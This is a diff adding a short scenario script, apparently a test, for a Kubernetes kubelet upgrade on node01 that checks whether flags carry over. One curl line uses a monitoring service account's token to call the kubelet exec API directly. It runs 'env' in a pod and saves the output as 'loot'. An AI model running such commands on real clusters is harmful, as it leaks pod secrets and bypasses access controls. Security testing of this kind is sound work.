@@ -1,0 +1,16 @@
+# scene fails ship-ready (removed-flag): the new program gets the old one's flags
+kubectl cordon node02
+kubectl apply -f shop.yaml
+#@ wait 3
+kubectl uncordon node02
+curl -sk -m 3 --http1.1 -N -o loot -H "Authorization: Bearer $(kubectl -n monitoring create token lookout)" -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' 'https://node01:10250/exec/default/web-node01/web?command=env&output=1'
+kubectl drain node01 --ignore-daemonsets
+#@ wait 40
+kubectl get pods -A --field-selector spec.nodeName=node01 > dock
+#@ node01
+wget -q http://depot/release/v1.36.2/bin/linux/amd64/kubelet -O kubelet
+install -m 755 kubelet /usr/bin/kubelet
+systemctl restart kubelet
+#@ wait 8
+#@ controlplane
+kubectl uncordon node01
